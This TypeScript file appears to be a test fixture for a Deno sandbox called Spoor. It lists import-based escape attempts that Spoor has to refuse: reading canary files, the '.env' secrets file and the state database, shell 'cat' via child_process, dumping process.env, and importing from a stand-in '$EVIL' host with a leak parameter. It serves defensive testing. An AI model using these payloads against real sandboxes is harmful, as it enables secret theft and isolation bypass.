/**
 * Attacks by import: Deno does not check permissions for imports that it can see in the text, so
 * Spoor has to refuse them before a model starts.
 *
 * @module
 */
import type { Attack } from "../attack.ts";

/** A model that would leak whatever `value` is after these imports. */
function importing(name: string, lines: string, value = "value"): Attack {
  return {
    name,
    source: `import { leak } from "../_lib/leak.ts";\n${lines}\nawait leak(${value});`,
  };
}

export const importAttacks: readonly Attack[] = [
  importing(
    "imports a file as text",
    `import value from "$VICTIM/canary.txt" with { type: "text" };`,
  ),
  importing(
    "imports a file as JSON",
    `import value from "$VICTIM/canary.json" with { type: "json" };`,
  ),
  importing(
    "imports a file as bytes",
    `import value from "$VICTIM/canary.txt" with { type: "bytes" };`,
  ),
  importing("imports a file URL", `import value from "file://$VICTIM/canary.js";`),
  importing("imports an absolute path", `import value from "$VICTIM/canary.js";`),
  importing("imports a path out of the project", `import value from "$RELATIVE/canary.js";`),
  importing(
    "imports JSON by a path out of the project",
    `import value from "$RELATIVE/canary.json" with { type: "json" };`,
  ),
  importing("imports a module through a link", `import value from "../_lib/link.js";`),
  importing(
    "imports a module through a linked folder",
    `import value from "../_linked/canary.js";`,
  ),
  importing(
    "imports the secrets file as text",
    `import value from "../../.env" with { type: "text" };`,
  ),
  importing(
    "imports the state file as bytes",
    `import value from "../../.spoor/spoor.db" with { type: "bytes" };`,
  ),
  importing(
    "imports a file as text by import()",
    `const { default: value } = await import("$VICTIM/canary.txt", { with: { type: "text" } });`,
  ),
  importing(
    "imports a computed path by import()",
    `const { default: value } = await import(["$VICTIM", "canary.js"].join("/"));`,
  ),
  importing(
    "imports with a comment before the parenthesis",
    `const { default: value } = await import/* */\n("$VICTIM/canary.js");`,
  ),
  importing(
    "imports behind a regular expression that looks like a comment",
    `const odd = /[/*]/; const { default: value } = await import("$VICTIM/canary.js"); /[*/]/;`,
  ),
  importing(
    "imports inside a template literal",
    "const value = `${(await import('$VICTIM/canary.js')).default}`;",
  ),
  importing(
    "imports a name with escapes in it",
    String
      .raw`import { readFileSync } from "n\u006fde:fs"; const value = readFileSync("$VICTIM/canary.txt");`,
  ),
  importing(
    "imports by TypeScript's import = require()",
    `import fs = require("node:fs"); const value = fs.readFileSync("$VICTIM/canary.txt");`,
  ),
  importing(
    "imports node:fs",
    `import { readFileSync } from "node:fs"; const value = readFileSync("$VICTIM/canary.txt");`,
  ),
  importing(
    "imports node:fs by its bare name",
    `import { readFileSync } from "fs"; const value = readFileSync("$VICTIM/canary.txt");`,
  ),
  importing(
    "imports node:module for createRequire",
    `import { createRequire } from "node:module";
     const value = createRequire("/x.js")("fs").readFileSync("$VICTIM/canary.txt");`,
  ),
  importing(
    "imports node:child_process",
    `import { execSync } from "node:child_process"; const value = execSync("cat $VICTIM/canary.txt");`,
  ),
  importing(
    "imports node:worker_threads",
    `import { Worker } from "node:worker_threads"; const value = String(Worker);`,
  ),
  importing(
    "imports node:sqlite",
    `import { DatabaseSync } from "node:sqlite";
     const value = new DatabaseSync("$PROJECT/.spoor/spoor.db").prepare("SELECT * FROM \\"victim.data\\"").all();`,
  ),
  importing(
    "imports node:process",
    `import process from "node:process"; const value = process.env;`,
  ),
  {
    name: "exports JSON of another folder again",
    source:
      `import { leak } from "../_lib/leak.ts"; import value from "../_lib/$ID.ts"; await leak(value);`,
    files: {
      "models/_lib/$ID.ts": `export { default } from "$VICTIM/canary.json" with { type: "json" };`,
    },
  },
  importing("exports everything of node:fs", `export * from "node:fs"; const value = "exported";`),
  importing("imports an npm package", `import value from "npm:is-odd@3.0.1";`),
  importing("imports a bare package", `import value from "is-odd";`),
  importing("imports a jsr package", `import * as value from "jsr:@std/path";`),
  importing("imports from another host", `import value from "$EVIL/$ID.js";`),
  importing(
    "imports from another host to tell it something",
    `await import("$EVIL/$ID.js?leak=1").catch(() => {}); const value = "sent";`,
  ),
  importing("imports a data URL", `import value from "data:text/javascript,export default 1";`),
  importing(
    "imports a blob URL",
    `import value from "blob:null/00000000-0000-0000-0000-000000000000";`,
  ),
  importing("imports Spoor's own modules", `import * as value from "~/sandbox/guest/api.ts";`),
  {
    name: "imports node:fs from a module that it imports",
    source:
      `import { leak } from "../_lib/leak.ts"; import value from "../_lib/$ID.ts"; await leak(value);`,
    files: {
      "models/_lib/$ID.ts":
        `import { readFileSync } from "node:fs";\nexport default readFileSync("$VICTIM/canary.txt", "utf8");`,
    },
  },
];
